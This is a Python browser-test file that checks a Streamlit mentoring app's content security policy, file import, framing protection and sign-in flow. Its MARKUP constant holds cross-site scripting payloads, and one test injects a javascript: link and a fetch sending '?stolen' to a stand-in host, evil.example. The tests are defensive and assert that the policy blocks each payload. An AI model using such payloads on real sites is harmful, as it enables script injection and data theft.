"""Pages under the content policy, in a real browser: all of it works, nothing comes from elsewhere, markup is text."""

import re

import httpx
import pytest
from playwright.sync_api import expect

from tests.access.conftest import BOSS, copied, local, provider_at
from tests.browser.conftest import settled
from tests.conftest import ROOT
from tests.support.cold_servers import serving
from tests.support.signed_in_app import guarded_app

__all__ = ["local", "provider_at"]  # fixtures
pytestmark = pytest.mark.browser

PAGES = sorted(file.stem for file in (ROOT / "pages").glob("[a-z]*.py"))
#: What Streamlit asks for below a page's own address, to find out where the app is.
_PROBED = re.compile(r"/\w+/_stcore/(health|host-config)$")


@pytest.fixture
def watched(page):
    """The page, and what went wrong on it: refused by the policy, from elsewhere, failed."""
    wrong = []

    def said(message):
        if message.type == "error" and "404" not in message.text:
            wrong.append(message.text)

    def answered(response):
        if response.status >= 400 and not _PROBED.search(response.url):
            wrong.append(response.url)

    page.on("console", said)
    page.on("pageerror", lambda each: wrong.append(str(each)))
    page.on("requestfailed", lambda each: wrong.append(f"failed: {each.url}"))
    page.on("response", answered)
    return page, wrong


def asked_elsewhere(page, address):
    found = []

    def asked(request):
        if not request.url.startswith((address, "data:", "blob:")):
            found.append(request.url)

    page.on("request", asked)
    return found


@pytest.mark.parametrize("name", PAGES)
def test_a_page_works_and_asks_for_nothing_from_elsewhere(watched, local, name):
    page, wrong = watched
    elsewhere = asked_elsewhere(page, local)
    answer = page.goto(f"{local}/{name}?person=P-1051&mentee=P-1051")
    assert "unsafe-eval" not in answer.headers["content-security-policy"]
    expect(page.locator("h1")).to_be_visible()
    settled(page)
    page.wait_for_timeout(500)
    assert wrong == []
    assert elsewhere == []
    assert page.locator("[data-testid=stException]").count() == 0


def test_tables_open_and_charts_are_drawn_and_saved(watched, local):
    page, wrong = watched
    page.goto(f"{local}/modality_mix")
    expect(page.locator(".js-plotly-plot .main-svg").first).to_be_visible()
    with page.expect_download() as saved:
        page.locator(".modebar-btn").first.click()
    assert saved.value.suggested_filename.endswith(".png")
    with page.expect_download() as table:
        page.get_by_role("link", name="XLSX").first.click()
    assert table.value.suggested_filename.endswith(".xlsx")
    page.goto(f"{local}/mentee_progress")
    page.get_by_role("row").nth(3).click()
    settled(page)
    assert wrong == []


def test_a_file_is_imported_and_makes_room_for_the_next(watched, tmp_path):
    page, wrong = watched
    rows = (
        "held_on,mentee,activity,modality,minutes,mentor,notes\n2025-03-03,ada@example.org,one_to_one,virtual,60,m-1,\n"
    )
    with serving(tmp_path / "s.duckdb", largest_file_mb="1", as_of="2026-11-15") as address:
        page.goto(f"{address}/session_exports")
        for number in range(3):
            body = rows + f"2025-04-0{number + 1},ada@example.org,one_to_one,virtual,60,m-1,{'long ' * 160}\n" * 1_000
            assert 900_000 > len(body) > 700_000
            page.locator("input[type=file]").set_input_files(
                {"name": f"{number}.csv", "mimeType": "text/csv", "buffer": body.encode()}
            )
            page.get_by_role("button", name="Import 1 file").click()
            expect(page.get_by_text(re.compile(rf"{number}.csv.* 1,001 rows"))).to_be_visible()
            settled(page)
    assert wrong == []


MARKUP = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"


def test_markup_in_records_stays_text(watched, tmp_path):
    page, wrong = watched
    people = tmp_path / "people.csv"
    name = MARKUP.replace('"', '""')
    people.write_text(f'person,name,email,registered_on\nP-1,"{name}",a@b.example,2020-01-01\n', "utf-8")
    with serving(tmp_path / "s.duckdb", as_of="2026-11-15") as address:
        page.goto(f"{address}/session_exports")
        page.locator("input[type=file]").set_input_files(people)
        page.get_by_role("button", name="Import 1 file").click()
        expect(page.get_by_text("1 row of people")).to_be_visible()
        for name in PAGES:
            page.goto(f"{address}/{name}?mentee=P-1")
            settled(page)
            page.wait_for_timeout(300)
            assert "owned" not in page.title()
            assert page.locator("img[src=x]").count() == 0
    assert not [each for each in wrong if "Content Security Policy" in each], "nothing even tried"


def test_the_policy_alone_would_stop_a_script_that_got_onto_a_page(page, local):
    """Should escaping fail one day."""
    refused = []

    def said(message):
        if "Content Security Policy" in message.text:
            refused.append(message.text)

    page.on("console", said)
    page.goto(f"{local}/overview")
    expect(page.locator("h1")).to_be_visible()
    page.evaluate(
        "markup => document.body.insertAdjacentHTML('beforeend', markup)",
        MARKUP + "<a id=js href='javascript:document.title=`owned`'>x</a><iframe src='http://evil.example'></iframe>"
        "<form id=f action='http://evil.example'></form><img src='http://evil.example/?stolen'>",
    )
    page.evaluate("document.getElementById('js').click(); document.getElementById('f').submit()")
    page.evaluate("fetch('http://evil.example/?stolen').catch(() => 0)")
    page.wait_for_timeout(500)
    assert "owned" not in page.title()
    for directive in ("script-src", "img-src", "form-action", "connect-src", "frame-src", "default-src"):
        assert any(directive in each for each in refused), directive


def test_no_other_page_frames_the_app(page, local):
    page.route(
        "http://elsewhere.example/", lambda route: route.fulfill(body=f"<iframe src='{local}/overview'></iframe>")
    )
    page.goto("http://elsewhere.example/")
    page.wait_for_timeout(1000)
    assert "What needs me now" not in page.frames[1].content()
    assert page.frames[1].url.startswith("chrome-error:")


def test_signing_in_and_out_as_people_do(page, sample_file, tmp_path, provider_at):
    httpx.put(f"{provider_at}/users/{BOSS}", json={"email": BOSS, "email_verified": True})
    with guarded_app(copied(sample_file, tmp_path), tmp_path / "run", provider_at, as_of="2026-11-15") as address:
        page.goto(f"{address}/mentee_progress")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_placeholder("sub").fill(BOSS)
        page.get_by_role("button", name=re.compile("Authorize")).first.click()
        page.wait_for_url(f"{address}/**")
        expect(page.locator("h4").first).to_be_visible()
        other = page.context.new_page()
        other.goto(f"{address}/mentee_progress")
        expect(other.get_by_text("Where does everybody stand?")).to_be_visible()
        page.get_by_test_id("stPopoverButton").last.click()
        page.get_by_role("button", name="Sign out").click()
        expect(other.get_by_role("heading", name="Please sign in")).to_be_visible()
        page.goto(f"{address}/mentee_progress")
        expect(page.get_by_role("heading", name="Please sign in")).to_be_visible()
